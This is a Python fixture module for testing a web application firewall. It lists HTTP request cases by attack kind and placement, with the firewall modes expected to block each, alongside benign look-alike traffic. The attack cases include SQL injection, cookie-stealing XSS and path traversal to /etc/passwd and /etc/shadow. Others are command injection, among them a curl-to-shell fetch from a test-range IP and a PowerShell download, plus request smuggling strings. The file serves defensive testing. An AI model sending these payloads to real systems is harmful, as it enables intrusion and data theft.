"""Requests an API sees: attacks by kind and place, and legitimate traffic that looks risky.

Each case is sent as raw bytes (so nothing is normalized on the way) to a
route per WAF mode. `blocked_by` names the modes expected to refuse it.
"""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
APP = "acme-ios/5.2.1 (iPhone; iOS 17.2; Scale/3.00)"
BOTH = frozenset({"sqli_xss", "crs"})
CRS = frozenset({"crs"})
SQLI_XSS = frozenset({"sqli_xss"})


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # sqli, xss, lfi, rce, scanner, protocol, benign
    method: str = "GET"
    path: str = "/api/items"
    query: str = ""  # already encoded
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    blocked_by: frozenset[str] = field(default_factory=frozenset)

    def request(self, prefix: str, host: str) -> bytes:
        target = prefix + self.path + (f"?{self.query}" if self.query else "")
        lines = [f"{self.method} {target} HTTP/1.1", f"Host: {host}"]
        names = {name.lower() for name, _ in self.headers}
        if "user-agent" not in names:
            lines.append(f"User-Agent: {BROWSER}")
        if "accept" not in names:
            lines.append("Accept: application/json")
        lines += [f"{name}: {value}" for name, value in self.headers]
        if self.body or self.method in ("POST", "PUT", "PATCH"):
            lines.append(f"Content-Length: {len(self.body)}")
        lines.append("Connection: close")
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + self.body


def q(**params: str) -> str:
    return urlencode(params, quote_via=quote)


def post_json(name: str, kind: str, value: object, blocked_by: frozenset[str], **kw: str) -> Case:
    return Case(
        name,
        kind,
        method=kw.get("method", "POST"),
        path=kw.get("path", "/api/items"),
        headers=(("Content-Type", "application/json"),),
        body=json.dumps(value).encode(),
        blocked_by=blocked_by,
    )


def post_form(name: str, kind: str, fields: dict[str, str], blocked_by: frozenset[str]) -> Case:
    return Case(
        name,
        kind,
        method="POST",
        path="/api/comments",
        headers=(("Content-Type", "application/x-www-form-urlencoded"),),
        body=urlencode(fields).encode(),
        blocked_by=blocked_by,
    )


ATTACKS: tuple[Case, ...] = (
    # -- SQL injection ---------------------------------------------------------
    Case("sqli tautology in a query param", "sqli", query=q(id="1' OR '1'='1"), blocked_by=BOTH),
    Case(
        "sqli union select in a query param",
        "sqli",
        query=q(id="-1 UNION SELECT username, password FROM users--"),
        blocked_by=BOTH,
    ),
    Case("sqli stacked query", "sqli", query=q(q="1; DROP TABLE users--"), blocked_by=BOTH),
    Case("sqli time-based blind", "sqli", query=q(id="1 AND SLEEP(5)"), blocked_by=BOTH),
    Case("sqli in a parameter name", "sqli", query="1'%20OR%20'1'%3D'1=x", blocked_by=BOTH),
    Case(
        "sqli in the path",
        "sqli",
        path="/api/items/1' or '1'='1".replace(" ", "%20"),
        blocked_by=SQLI_XSS,
    ),
    post_form("sqli in a form login", "sqli", {"username": "admin' --", "password": "x"}, BOTH),
    post_json(
        "sqli in a nested JSON field",
        "sqli",
        {"filter": {"name": "x' OR 1=1 --", "page": 1}},
        BOTH,
    ),
    post_json("sqli in a JSON array", "sqli", {"ids": [1, 2, "3 UNION SELECT 1,2--"]}, BOTH),
    Case(
        "sqli in a cookie",
        "sqli",
        headers=(("Cookie", "session=abc123; pref=1' or '1'='1"),),
        blocked_by=BOTH,
    ),
    Case(
        "sqli in the User-Agent",
        "sqli",
        headers=(("User-Agent", "' or 1=1 --"),),
        blocked_by=BOTH,
    ),
    Case(
        "sqli in the Referer",
        "sqli",
        headers=(("Referer", "https://shop.example.com/?id=1' union select 1,2--"),),
        blocked_by=BOTH,
    ),
    # -- XSS -------------------------------------------------------------------
    Case(
        "xss script tag in a query param",
        "xss",
        query=q(q="<script>alert(1)</script>"),
        blocked_by=BOTH,
    ),
    Case(
        "xss event handler", "xss", query=q(name='"><img src=x onerror=alert(1)>'), blocked_by=BOTH
    ),
    Case(
        "xss svg onload", "xss", query=q(q="<svg/onload=alert(document.cookie)>"), blocked_by=BOTH
    ),
    # libinjection sees no HTML here; CRS's regular expressions do
    Case("xss javascript uri", "xss", query=q(next="javascript:alert(1)"), blocked_by=CRS),
    post_form(
        "xss in a form comment", "xss", {"comment": "<iframe src=javascript:alert(1)>"}, BOTH
    ),
    post_json("xss in a JSON profile", "xss", {"user": {"bio": "<body onload=alert(1)>"}}, BOTH),
    Case(
        "xss in a cookie",
        "xss",
        headers=(("Cookie", "theme=<script>alert(1)</script>"),),
        blocked_by=BOTH,
    ),
    Case(
        "xss in the Referer",
        "xss",
        headers=(("Referer", 'https://x.example/"><script>alert(1)</script>'),),
        blocked_by=BOTH,
    ),
    Case(
        "xss double-encoded",
        "xss",
        query="q=%253Cscript%253Ealert(1)%253C/script%253E",
        blocked_by=BOTH,
    ),
    # -- path traversal / LFI --------------------------------------------------
    Case("lfi dot-dot-slash", "lfi", query=q(file="../../../../etc/passwd"), blocked_by=CRS),
    Case("lfi encoded", "lfi", query="file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", blocked_by=CRS),
    Case("lfi double-encoded", "lfi", query="file=%252e%252e%252fetc%252fpasswd", blocked_by=CRS),
    Case("lfi windows", "lfi", query=q(file="..\\..\\windows\\win.ini"), blocked_by=CRS),
    Case("lfi absolute", "lfi", query=q(page="/etc/shadow"), blocked_by=CRS),
    post_json("lfi in JSON", "lfi", {"template": "../../../etc/passwd"}, CRS),
    # -- remote command execution ----------------------------------------------
    Case("rce semicolon", "rce", query=q(host="127.0.0.1; cat /etc/passwd"), blocked_by=CRS),
    Case("rce subshell", "rce", query=q(ip="$(id)"), blocked_by=CRS),
    Case("rce backticks", "rce", query=q(x="`whoami`"), blocked_by=CRS),
    post_json(
        "rce pipe to shell in JSON",
        "rce",
        {"host": "8.8.8.8 && curl http://198.18.9.9/x.sh | sh"},
        CRS,
    ),
    Case("rce php", "rce", query=q(code="system('id');"), blocked_by=CRS),
    Case(
        "rce powershell",
        "rce",
        query=q(c="powershell Invoke-Expression (New-Object Net.WebClient).DownloadString('x')"),
        blocked_by=CRS,
    ),
    # -- scanners ----------------------------------------------------------------
    Case(
        "scanner sqlmap",
        "scanner",
        headers=(("User-Agent", "sqlmap/1.7.2#stable"),),
        blocked_by=CRS,
    ),
    Case(
        "scanner nikto",
        "scanner",
        headers=(("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),),
        blocked_by=CRS,
    ),
    Case(
        "scanner nmap",
        "scanner",
        headers=(("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),),
        blocked_by=CRS,
    ),
    Case("scanner masscan", "scanner", headers=(("User-Agent", "masscan/1.3"),), blocked_by=CRS),
    Case("scanner wpscan", "scanner", headers=(("User-Agent", "WPScan v3.8.22"),), blocked_by=CRS),
    # -- protocol abuse ----------------------------------------------------------
    Case(
        "protocol CRLF injection in a param",
        "protocol",
        query="q=x%0d%0aSet-Cookie:%20admin%3Dtrue",
        blocked_by=CRS,
    ),
    Case(
        "protocol smuggled request in a param",
        "protocol",
        query=q(q="x\r\nGET /admin HTTP/1.1\r\nHost: x"),
        blocked_by=CRS,
    ),
    Case("protocol null byte", "protocol", query="file=report.pdf%00.php", blocked_by=CRS),
    Case("protocol WebDAV method", "protocol", method="PROPFIND", blocked_by=CRS),
    Case(
        "protocol GET with a body",
        "protocol",
        headers=(("Content-Type", "application/json"),),
        body=b'{"a": 1}',
        blocked_by=CRS,
    ),
    Case(
        "protocol content type not allowed",
        "protocol",
        method="POST",
        headers=(("Content-Type", "application/x-evil"),),
        body=b"a=b",
        blocked_by=CRS,
    ),
    Case(
        "protocol charset not allowed",
        "protocol",
        method="POST",
        headers=(("Content-Type", "application/json; charset=utf-7"),),
        body=b'{"a": 1}',
        blocked_by=CRS,
    ),
    Case("protocol backup file", "protocol", path="/api/db.sql.bak", blocked_by=CRS),
    Case(
        "protocol malformed JSON body",
        "protocol",
        method="POST",
        headers=(("Content-Type", "application/json"),),
        body=b'{"a": "x", ',
        blocked_by=BOTH,
    ),
    Case(
        "sqli in a gzip JSON body",
        "sqli",
        method="POST",
        headers=(("Content-Type", "application/json"), ("Content-Encoding", "gzip")),
        body=gzip.compress(json.dumps({"q": "1 UNION SELECT password FROM users"}).encode()),
        blocked_by=BOTH,
    ),
)

JWT = (
    "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwi"
    "aWF0IjoxNTE2MjM5MDIyfQ.NHVaYe26MbtOYhSKkoKYdFVomg4i8ZJd8_-RU8VNbftc4TSMb4bXP3l3YlNWACwyXP"
)
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
    "rkJggg=="
)

BENIGN: tuple[Case, ...] = (
    Case("name with an apostrophe", "benign", path="/api/users", query=q(last_name="O'Brien")),
    Case("apostrophes in names", "benign", path="/api/users", query=q(q="D'Angelo O'Connor-Smith")),
    Case(
        "free text with SQL words",
        "benign",
        path="/api/search",
        query=q(q="how to select the best update from a union of drop-in options"),
    ),
    Case(
        "a sentence with or and and",
        "benign",
        path="/api/search",
        query=q(q="cats or dogs and birds; which one is 1 of my favourites?"),
    ),
    Case(
        "email and phone",
        "benign",
        path="/api/contacts",
        query=q(email="jane.o'neil+news@example.com", phone="+1 (555) 010-9999"),
    ),
    Case(
        "a URL as a parameter",
        "benign",
        path="/oauth/callback",
        query=q(redirect_uri="https://app.example.com/cb?state=xyz&step=2", code="4/0AbCd-Ef"),
    ),
    Case("a JWT in a query param", "benign", path="/api/verify", query=q(token=JWT)),
    Case("a bearer token", "benign", headers=(("Authorization", f"Bearer {JWT}"),)),
    Case(
        "cookies of a session",
        "benign",
        headers=(("Cookie", "session=9f8e7d6c5b4a; theme=dark; lang=en-US; _ga=GA1.2.3.4"),),
    ),
    Case("a mobile app", "benign", headers=(("User-Agent", APP),)),
    Case(
        "sorting and filters",
        "benign",
        path="/api/orders",
        query="sort=-created_at&filter%5Bstatus%5D=open&page%5Bsize%5D=50&fields=id,total",
    ),
    Case(
        "dates and ranges",
        "benign",
        path="/api/reports",
        query=q(**{"from": "2024-01-01T00:00:00Z", "to": "2024-01-31", "bucket": "1d"}),
    ),
    Case("unicode text", "benign", path="/api/users", query=q(name="Zoë Saldaña Müller 山田")),
    post_json(
        "markdown with angle brackets",
        "benign",
        {
            "title": "Release notes",
            "body": "## What changed\n\n- `a < b` now works when b > 0\n- see <https://docs."
            "example.com/v2>\n> quoted reply\n\n**Bold** & _italic_ -- thanks!",
        },
        frozenset(),
        path="/api/posts",
    ),
    post_json(
        "base64 blobs",
        "benign",
        {"avatar": PNG, "signature": "MEUCIQDx3+/a9ZkBq7l2b0s8vGq4ew==", "key": "c2VjcmV0LWtleQ=="},
        frozenset(),
        path="/api/profile",
        method="PUT",
    ),
    post_json(
        "nested JSON",
        "benign",
        {
            "order": {
                "customer": {"name": "Seán O'Sullivan", "address": {"line1": "12 Main St."}},
                "items": [{"sku": "A-1", "qty": 2, "price": 9.99}, {"sku": "B-2", "qty": 1}],
                "notes": "Leave at the door; ring twice -- or call.",
                "flags": {"gift": True, "express": False, "coupon": None},
            }
        },
        frozenset(),
        path="/api/orders",
    ),
    post_json(
        "a support ticket that mentions SQL",
        "benign",
        {
            "subject": "Export fails",
            "text": "When I select all rows from the table and update "
            "the report, the export drops the last column. Is there a limit?",
        },
        frozenset(),
        path="/api/tickets",
    ),
    post_json(
        "a JSON patch",
        "benign",
        {"status": "shipped", "tracking": "1Z999AA10123456784"},
        frozenset(),
        path="/api/orders/1042",
        method="PATCH",
    ),
    post_form(
        "a contact form",
        "benign",
        {"name": "Jane O'Connor", "message": "I'll be there at 5 - can't wait!"},
        frozenset(),
    ),
    Case("a DELETE", "benign", method="DELETE", path="/api/orders/1042"),
    Case(
        "a gzip JSON body",
        "benign",
        method="POST",
        path="/api/events",
        headers=(("Content-Type", "application/json"), ("Content-Encoding", "gzip")),
        body=gzip.compress(json.dumps({"events": [{"type": "click", "x": 10}] * 50}).encode()),
    ),
)
